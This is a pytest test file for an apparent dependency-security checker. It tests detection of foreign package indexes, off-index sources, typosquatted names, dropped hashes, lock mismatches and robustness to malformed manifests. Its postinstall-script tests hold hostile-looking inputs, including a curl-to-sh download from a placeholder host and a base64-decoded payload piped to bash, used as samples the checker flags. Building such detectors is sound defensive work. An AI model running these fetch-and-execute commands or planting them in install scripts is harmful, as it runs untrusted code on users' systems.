"""Rules about where dependencies come from, beyond their examples: many spellings, hostile manifests, nothing twice."""

import json
import time
from collections.abc import Mapping
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate import registry
from gate.clients import default_index
from gate.facts.distributions import DISTRIBUTIONS, IMPORT_NAMES, brings
from gate.facts.indexes import IndexSetting
from gate.facts.needs import needs
from gate.facts.popular import near, popular
from gate.rule import Hit, Severity, Source
from tests import examples

RULES = [one for one in registry.compares() if one.rule.item == "dependencies"]


def hits(name: str, base: Mapping[str, str], head: Mapping[str, str]) -> list[Hit]:
    (compare,) = (one for one in RULES if one.rule.id == f"dependencies/{name}")
    return examples.compared(compare, base, head)


def lines(name: str, base: Mapping[str, str], head: Mapping[str, str]) -> list[int]:
    return sorted(hit.place.line for hit in hits(name, base, head))


# Where from


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "--extra-index-url=https://x.example.com/simple\n"),
        ("requirements/dev.in", "--extra-index-url 'https://x.example.com/simple'\n"),
        ("requirements.txt", "-i https://user:pw@x.example.com/simple\n"),
        ("requirements.txt", "--find-links=https://x.example.com/wheels\n"),
        ("Dockerfile", "RUN pip install --no-cache-dir -i https://x.example.com/simple flask\n"),
        ("Dockerfile.prod", "ARG PIP_INDEX_URL=https://x.example.com/simple\n"),
        ("docker/app.Dockerfile", "RUN uv pip install --default-index https://x.example.com/simple flask\n"),
        ("Makefile", "install:\n\tPIP_EXTRA_INDEX_URL=https://x.example.com/simple pip install -e .\n"),
        ("scripts/install.sh", "export UV_INDEX=own=https://x.example.com/simple\n"),
        ("install.sh", "pip config set global.extra-index-url https://x.example.com/simple\n"),
        ("install.sh", "npm install --registry https://x.example.com left\n"),
        ("install.sh", "npm config set @acme:registry https://x.example.com\n"),
        ("install.sh", "poetry source add --priority=primary own https://x.example.com/simple\n"),
        ("pip.conf", "[global]\nextra-index-url =\n    http://localhost/simple\n    https://x.example.com/simple\n"),
        ("deploy/pip.ini", "[install]\ntrusted-host = x.example.com\n"),
        ("uv.toml", '[[index]]\nurl = "https://x.example.com/simple"\n'),
        ("pyproject.toml", '[[tool.poetry.source]]\nname = "own"\nurl = "https://x.example.com/simple"\n'),
        ("pyproject.toml", '[tool.uv]\nindex-url = "https://x.example.com/simple"\n'),
        ("Pipfile", '[[source]]\nurl = "https://x.example.com/simple"\nverify_ssl = true\n'),
        ("setup.cfg", "[easy_install]\nindex_url = https://x.example.com/simple\n"),
        ("setup.py", 'setup(dependency_links=["https://x.example.com/wheels/a.tgz"])\n'),
        (".npmrc", "registry = https://x.example.com/\n"),
        (".yarnrc.yml", 'npmRegistryServer: "https://x.example.com"\n'),
        (".yarnrc", 'registry "https://x.example.com"\n'),
        ("bunfig.toml", '[install]\nregistry = "https://x.example.com"\n'),
        (".env", "NPM_CONFIG_REGISTRY=https://x.example.com\n"),
        (".gitlab-ci.yml", "variables:\n  PIP_INDEX_URL: https://x.example.com/simple\n"),
        ("tasks.py", 'run("pip install --extra-index-url https://x.example.com/simple x")\n'),
        ("noxfile.py", 'session.install("--index-url", "https://x.example.com/simple", "x")\n'),
        ("app.ipynb", '{"cells": [{"source": ["!pip install --extra-index-url https://x.example.com/s x"]}]}\n'),
    ],
)
def test_an_index_is_seen_however_it_is_set(path, text):
    found = hits("foreign_index", {}, {path: text})
    assert found, "nothing was seen"
    assert all("x.example.com" in hit.message for hit in found)
    assert not any("pw" in hit.message + hit.detail for hit in found)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "--no-index\n--find-links ./wheels\n--pre\n"),
        ("Dockerfile", "ARG PIP_INDEX_URL\nENV PIP_INDEX_URL=$PIP_INDEX_URL\n"),
        ("app.py", 'index_url = reverse("index")\nfind_links(page)\nregistry = {"https://x.example.com": 1}\n'),
        ("README.md", "pip install --extra-index-url https://x.example.com/simple x\n"),
        ("app.js", "const registry = 'https://x.example.com'\n"),
        ("chart/values.yaml", "image:\n  registry: https://x.example.com\n"),
        (".env", "REGISTRY=https://x.example.com\nSOURCE=https://x.example.com\n"),
        ("pip.conf", "[global]\nindex-url = http://localhost:3141/root/pypi\n"),
        ("a.py", 'args += [f"--trusted-host {host}"]\n'),
    ],
)
def test_what_sets_no_foreign_index_is_not_reported(path, text):
    assert hits("foreign_index", {}, {path: text}) == []


def test_the_policy_says_which_hosts_are_the_organizations_own():
    allowed = {"gate.toml": '[dependencies]\nindex_hosts = ["x.example.com"]\n'}
    text = "--index-url https://x.example.com/simple\n--trusted-host x.example.com\n-f http://x.example.com/w\n"
    assert lines("foreign_index", allowed, {**allowed, "requirements.txt": text}) == [2, 3]
    assert lines("foreign_index", {}, {**allowed, "requirements.txt": text}) == [1, 2, 3]


def test_builds_of_known_projects_ask_for_a_look_and_test_indexes_block():
    (known,) = hits(
        "foreign_index", {}, {"requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cpu\n"}
    )
    common = urlsplit(default_index("PyPI"))
    (tests,) = hits(
        "foreign_index", {}, {"requirements.txt": f"--extra-index-url https://test.{common.netloc}{common.path}\n"}
    )
    assert (known.severity, tests.severity) == (Severity.MEDIUM, Severity.HIGH)
    assert "nobody answers" in tests.message


def test_the_index_that_clients_ask_anyhow_is_not_foreign():
    own = default_index("PyPI")
    files = {"requirements.txt": f"--index-url {own}\nflask==3.0.3\n", "Dockerfile": f"ARG PIP_INDEX_URL={own}\n"}
    assert own.startswith("https://")
    assert not hits("foreign_index", {}, files)
    assert hits("foreign_index", {}, {"requirements.txt": f"--index-url {own.replace('https', 'http')}\n"})


@pytest.mark.parametrize(
    ("origin", "severity"),
    [
        ("git+http://example.com/x/requests.git", Severity.HIGH),
        ("git+https://github.com/helpful/requests@main", Severity.HIGH),
        ("https://files.example.com/requests-9.tar.gz", Severity.HIGH),
        ("file:///srv/requests", Severity.MEDIUM),
    ],
)
def test_a_much_used_package_that_leaves_the_index_blocks(origin, severity):
    base = {"requirements.txt": "requests==2.32.3\n"}
    (hit,) = hits("foreign_source", base, {"requirements.txt": f"requests @ {origin}\n"})
    assert hit.severity is severity
    assert "came from the index" in hit.message


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("curl -s https://get.example.com | sh", Severity.HIGH),
        ("node -e \"require('https').get('x')\"", Severity.HIGH),
        ("echo aGk= | base64 -d | bash", Severity.HIGH),
        ("node -p 'require(\"./postinstall.js\")()'", Severity.MEDIUM),
        ("node scripts/setup.js", Severity.MEDIUM),
    ],
)
def test_a_script_that_fetches_what_it_runs_blocks(script, severity):
    (hit,) = hits("install_script", {}, {"package.json": json.dumps({"scripts": {"postinstall": script}})})
    assert hit.severity is severity


@pytest.mark.parametrize("script", ["husky", "husky || true", "npm run build", "patch-package", "npx prisma generate"])
def test_what_people_put_there_every_day_is_let_be(script):
    assert hits("install_script", {}, {"package.json": json.dumps({"scripts": {"postinstall": script}})}) == []


def test_hashes_that_are_gone_are_told_once_a_package():
    names = [f"p{number}" for number in range(4)]
    base = {"requirements.txt": "".join(f"{name}==1 --hash=sha256:{name[1] * 4}\n" for name in names)}
    some = {"requirements.txt": base["requirements.txt"].replace(" --hash=sha256:1111", "")}
    whole = {"requirements.txt": "".join(f"{name}==1\n" for name in names)}
    assert [hit.severity for hit in hits("changed_artifact", base, some)] == [Severity.HIGH]
    assert {hit.severity for hit in hits("changed_artifact", base, whole)} == {Severity.MEDIUM}


@pytest.mark.parametrize("lock", ["poetry.lock", "uv.lock", "pdm.lock"])
def test_a_package_nobody_asked_for_is_found_in_a_lock(lock):
    def locked(*extra: str) -> str:
        own = '[[package]]\nname = "flask"\nversion = "3"\n'
        needs_ = {
            "poetry.lock": '[package.dependencies]\nclick = ">=8"\n',
            "uv.lock": 'dependencies = [{ name = "click" }]\n',
        }
        own += needs_.get(lock, 'dependencies = ["click>=8"]\n')
        return own + "".join(f'\n[[package]]\nname = "{name}"\nversion = "1"\n' for name in ("click", *extra))

    manifest = {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["Flask"]\n'}
    base = {**manifest, lock: locked()}
    assert [hit.detail for hit in hits("lock_mismatch", base, {**manifest, lock: locked("colorslib")})] == ["colorslib"]
    asked = {"pyproject.toml": manifest["pyproject.toml"].replace('"Flask"', '"Flask", "colorslib"')}
    assert hits("lock_mismatch", base, {**asked, lock: locked("colorslib")}) == []


# Real


@pytest.mark.parametrize(
    ("name", "other"),
    [
        ("reqeusts", "requests"), ("requets", "requests"), ("requestss", "requests"), ("urlib3", "urllib3"),
        ("python-yaml", "pyyaml"), ("beautifullsoup4", "beautifulsoup4"), ("py-requests", "requests"),
        ("pandas-python", "pandas"), ("dateutil-python", "python-dateutil"), ("openai-sdk", "openai"),
        ("djangorest-framework", "djangorestframework"), ("boto-3", "boto3"), ("cryptograhpy", "cryptography"),
    ],
)  # fmt: skip
def test_names_that_are_nearly_others(name, other):
    assert near(name, "pypi")[0] == other


@pytest.mark.parametrize(("name", "other"), [("crossenv", "cross-env"), ("expres", "express"), ("lodahs", "lodash")])
def test_names_of_npm_that_are_nearly_others(name, other):
    assert near(name, "npm")[0] == other


@pytest.mark.parametrize(
    "name", ["requests", "flask", "attrs", "acme-billing", "x", "black", "numpydoc", "@acme/lodahs"]
)
def test_names_that_are_their_own(name):
    assert near(name, "pypi") == ("", "")


@pytest.mark.parametrize("ecosystem", ["pypi", "npm"])
def test_the_lists_are_whole_dated_and_in_the_form_that_is_compared(ecosystem):
    names = popular(ecosystem)
    assert len(names) >= 9_000
    assert all(name == name.strip() and not name.startswith("#") for name in names)
    if ecosystem == "pypi":
        assert not [name for name in names if name != name.lower() or "_" in name or "." in name]


def test_the_table_of_modules_says_nothing_that_the_name_says_itself():
    assert not [module for module, names in DISTRIBUTIONS.items() if names == {module.lower().replace("_", "-")}]
    assert not IMPORT_NAMES.keys() & set(IMPORT_NAMES.values())


@pytest.mark.parametrize(
    ("distribution", "module"),
    [
        ("pyyaml", "yaml"), ("google-cloud-storage", "google"), ("django-filter", "django_filters"), ("python-dotenv", "dotenv"),
        ("beautifulsoup4", "bs4"), ("strawberry-graphql-django", "strawberry_django"), ("opencv-python-headless", "cv2"),
    ],
)  # fmt: skip
def test_which_distribution_brings_a_module(distribution, module):
    assert brings(distribution, module)


@pytest.mark.parametrize(
    ("distribution", "module"), [("flask", "fastjsonguard"), ("fastapi", "fastapi_utils_pro"), ("attrs", "a")]
)
def test_which_distribution_does_not(distribution, module):
    assert not brings(distribution, module)


def test_an_import_of_what_is_known_is_a_note_and_of_what_is_not_a_warning():
    base = {"requirements.txt": "flask\n"}
    found = hits("undeclared_import", base, {**base, "a.py": "import numpy\nimport fastjsonguard\nimport _guard\n"})
    assert [(hit.detail, hit.severity) for hit in found] == [
        ("numpy", Severity.LOW), ("fastjsonguard", Severity.MEDIUM), ("_guard", Severity.MEDIUM),
    ]  # fmt: skip


# Hostile

PATHS = [
    "requirements.txt", "pyproject.toml", "poetry.lock", "uv.lock", "Pipfile", "Pipfile.lock", "package.json", "package-lock.json",
    "yarn.lock", "pnpm-lock.yaml", "setup.cfg", "setup.py", ".npmrc", "pip.conf", "Dockerfile", ".github/workflows/a.yml",
    "environment.yml", "a.py",
]  # fmt: skip
HOSTILE = [
    "\x00\x01\x1b[31m", "[" * 50_000, "{" * 50_000, '{"a":' * 20_000, "a" * 1_000_000, "a==" + "1." * 100_000, "\n" * 200_000,
    '{"packages": {"": [], "node_modules/a": 3, "x": null}}', '{"dependencies": [1, {"a": {}}], "scripts": "x"}',
    '{"scripts": {"install": ["a"], "install": {}}}', "[[package]]\nname = 1\nversion = []\n", "[package]\nname = 'x'\n",
    '[[package]]\nname = "a"\nsource = 3\ndependencies = {a = {}}\nfiles = [3]\n', '{"packages": {"node_modules/a": {"version": {}}}}',
    "--extra-index-url https://[::1\n-i http://[x]/\n--trusted-host \x85\n", "a @ git+https://[::1\nb @ http://\n",
    "[[tool.uv.index]]\nurl = 3\n[project]\ndependencies = [3, {a = 1}]\n[dependency-groups]\na = 3\n",
    "registry=\nregistry\n@:registry= x\n" * 1000, "--index-url " * 5_000, "pip install -i " * 5_000, "https://" * 10_000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_manifest_crashes_or_stalls_a_rule(text):
    for path in PATHS:
        for base, head in (({}, {path: text}), ({path: "a==1\n"}, {path: text}), ({path: text}, {path: text + "\n"})):
            for compare in RULES:
                start = time.process_time()
                examples.compared(compare, base, head)
                took = time.process_time() - start
                assert took < 6, f"{compare.rule.id} took {took:.1f} s over {path}"


PARTS = st.sampled_from(
    [
        "[[package]]", "[project]", "dependencies", "=", "[", "]", "{", "}", '"', "'", "\n", ",", ":", "name", "version", "a", "1.0",
        "source", "registry", "https://x.example.com", "git+", "@", "--hash=sha256:", "--index-url", "packages", "node_modules/a",
        "integrity", "sha512-", "resolved", "scripts", "install", "files", "hash", "import", "\x00", "é", " ", "#", "null", "3",
    ]
)  # fmt: skip
TEXTS = st.lists(PARTS, max_size=40).map("".join)


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(PATHS), TEXTS, TEXTS)
def test_no_broken_manifest_crashes_a_rule(path, before, after):
    for compare in RULES:
        examples.compared(compare, {path: before}, {path: after})


@given(TEXTS)
def test_no_broken_lock_crashes_what_reads_its_needs(text):
    for path in ("uv.lock", "package-lock.json"):
        needs(Source(path, text))


@given(st.text(max_size=60))
def test_no_name_crashes_the_search_for_its_likes(name):
    near(name, "pypi")


def test_a_setting_with_a_broken_address_has_no_host():
    (one,) = IndexSetting.find(Source("requirements.txt", "-i https://[::1\n"))
    assert one.host == ""


def test_no_message_grows_with_what_a_manifest_holds():
    long = "a" * 100_000
    base = {
        "requirements.txt": "a==1\nb==2\nc==3\n",
        "pyproject.toml": "",
        "uv.lock": '[[package]]\nname = "a"\nversion = "1"\n',
    }
    head = {
        "requirements.txt": f"a==1\nb==2\nc>={'1' * 10_000}\n{long}\n-i https://{long}.example.com/simple\nx @ https://e.example.com/{long}\n",
        "pyproject.toml": f'[project]\nname = "x"\ndependencies = ["a", "{long}"]\n',
        "uv.lock": f'[[package]]\nname = "a"\nversion = "1"\n[[package]]\nname = "{long}b"\nversion = "1"\n',
        "package.json": json.dumps({"scripts": {"install": long}, "overrides": {"lodash": f"npm:{long}@1"}}),
        "a.py": f"import {long}\n",
    }
    found = [hit for compare in RULES for hit in examples.compared(compare, base, head)]
    assert len(found) >= 8
    assert max(len(hit.message) for hit in found) < 1_000


URL = "https://x.example.com/simple"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("bunfig.toml", f'[install.scopes]\n"@s" = "{URL}"\n'), ("bunfig.toml", f'[install.scopes]\na = {{ token = "$T", url = "{URL}" }}\n'),
        (".yarnrc.yml", "enableStrictSsl: false\n"), (".yarnrc.yml", "unsafeHttpWhitelist:\n  - x.example.com\n"),
        (".yarnrc.yml", f"npmScopes:\n  acme:\n    npmRegistryServer: '{URL}'\n"), ("uv.toml", f'index = [\n  {{ url = "{URL}" }},\n]\n'),
        ("pyproject.toml", f'[tool.uv]\nindex = [{{ url = "{URL}" }}]\n'), ("uv.toml", 'allow-insecure-host = ["x.example.com"]\n'),
        ("pnpm-workspace.yaml", f"registries:\n  default: {URL}\n"), ("requirements.txt", f"-i{URL}\nflask==3\n"),
        ("requirements.txt", f"--extra-index-url \\\n  {URL}\nflask==3\n"), ("requirements.txt", f"--extra-i {URL}\nflask==3\n"),
        ("requirements.txt", f"--pypi-url={URL}\nflask==3\n"), ("Dockerfile", f"RUN echo 'registry={URL}' > .npmrc\n"),
        ("tool.py", f'# /// script\n# dependencies = ["a"]\n# [[tool.uv.index]]\n# url = "{URL}"\n# ///\n'),
        (".github/workflows/a.yml", f"jobs:\n  a:\n    steps:\n      - with:\n          registry-url: {URL}\n"),
    ],
)  # fmt: skip
def test_more_ways_to_name_an_index(path, text):
    assert len(hits("foreign_index", {}, {path: text})) == 1


@pytest.mark.parametrize(
    ("before", "after", "severity"),
    [
        ("sha512-a", "sha512-b", "high"), ("sha512-a", "", "high"), ("sha512-a", "sha1-a", "medium"), ("sha512-a", "sha512-a sha512-b", "high"),
        ("sha1-a", "sha512-a", None), ("sha1-a sha512-b", "sha512-b", None), ("", "sha512-a", None),
    ],
)  # fmt: skip
def test_what_a_hash_of_npm_becomes(before, after, severity):
    base, head = ({"package-lock.json": json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0", "integrity": one}}})}
                  for one in (before, after))  # fmt: skip
    assert [hit.severity for hit in hits("changed_artifact", base, head)] == ([Severity(severity)] if severity else [])


def test_the_hash_in_an_address_counts_where_there_is_no_other():
    old, new = (
        {"yarn.lock": f'a@^1:\n  version "1.0.0"\n  resolved "https://r.example.com/a/-/a-1.0.0.tgz#{one * 40}"\n'}
        for one in "ab"
    )
    assert len(hits("changed_artifact", old, new)) == 1


def test_all_checksums_of_a_yarn_that_packs_anew_are_one_decision():
    def berry(one):
        entries = (
            f'"{name}@npm:^1":\n  version: 1.0.0\n  resolution: "{name}@npm:1.0.0"\n  checksum: {one}\n\n'
            for name in "abcd"
        )
        return {"yarn.lock": "__metadata:\n  version: 8\n\n" + "".join(entries)}

    assert hits("changed_artifact", berry("10/aa"), berry("10c0/bb")) == []
    assert {hit.severity for hit in hits("changed_artifact", berry("10/aa"), berry("10/bb"))} == {Severity.MEDIUM}


@pytest.mark.parametrize(
    ("uses", "count"),
    [
        ("docker://e/e:latest", 1),
        ("docker://e/e", 1),
        (f"docker://e/e:1@sha256:{'a' * 64}", 0),
        ("./local", 0),
        (f"e/e@{'a' * 40}", 0),
    ],
)
def test_images_are_pinned_as_actions_are(uses, count):
    steps = "".join(f"      - uses: a/b{number}@{'0' * 40}\n" for number in range(4))
    base = {".github/workflows/a.yml": f"jobs:\n  a:\n    steps:\n{steps}"}
    head = {".github/workflows/a.yml": f"jobs:\n  a:\n    steps:\n{steps}      - uses: {uses}\n"}
    assert len(hits("unpinned", base, head)) == count


MADE = "# This file was autogenerated by uv via the following command:\na==1\n"


@pytest.mark.parametrize(
    ("wished", "made", "expected"),
    [
        ("a\nb\n", MADE, [2]), ("a\nb; sys_platform == 'win32'\n", MADE, []), ("a\nsetuptools\n", MADE, []), ("a\nb\n", f"{MADE}b==1\n", []),
        ("a\n", f"{MADE}evil==1\n", [3]), ("a\n", f"{MADE}evil==1\n".replace("a==1", "a==2"), []), ("a\nb\n", "a==1\n", []),
    ],
)  # fmt: skip
def test_a_compiled_list_follows_the_one_it_is_made_of(wished, made, expected):
    base = {"requirements.in": "a\n", "requirements.txt": MADE}
    assert lines("lock_mismatch", base, {"requirements.in": wished, "requirements.txt": made}) == expected


def test_a_list_that_includes_others_may_have_what_they_have():
    base = {"requirements.in": "-r more.in\na\n", "more.in": "", "requirements.txt": MADE}
    assert lines("lock_mismatch", base, {**base, "requirements.txt": f"{MADE}b==1\n"}) == []


PYLOCK = 'lock-version = "1.0"\n[[packages]]\nname = "a"\nversion = "1"\n'


@pytest.mark.parametrize(
    ("project", "lock", "expected"),
    [
        ('dependencies = ["a", "b"]\n', PYLOCK, 1), ('dependencies = ["a"]\n[dependency-groups]\nx = ["b"]\n', PYLOCK, 0),
        ('dependencies = ["a"]\n', f'{PYLOCK}[[packages]]\nname = "evil"\nversion = "1"\n', 1), ('dependencies = ["a"]\n', PYLOCK.replace('"1"', '"2"'), 0),
    ],
)  # fmt: skip
def test_a_pylock_follows_its_project(project, lock, expected):
    base = {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["a"]\n', "pylock.toml": PYLOCK}
    head = {"pyproject.toml": f'[project]\nname = "x"\n{project}', "pylock.toml": lock}
    assert len(hits("lock_mismatch", base, head)) == expected


def test_a_lock_that_is_gone_with_its_manifest_leaves_nothing_to_lock():
    base = {"web/package.json": '{"dependencies": {"a": "1"}}', "web/yarn.lock": 'a@1:\n  version "1.0.0"\n'}
    assert hits("lock_mismatch", base, {}) == []
    assert len(hits("lock_mismatch", base, {"web/package.json": base["web/package.json"]})) == 1
    assert (
        hits("lock_mismatch", base, {"web/package.json": base["web/package.json"], "yarn.lock": base["web/yarn.lock"]})
        == []
    )
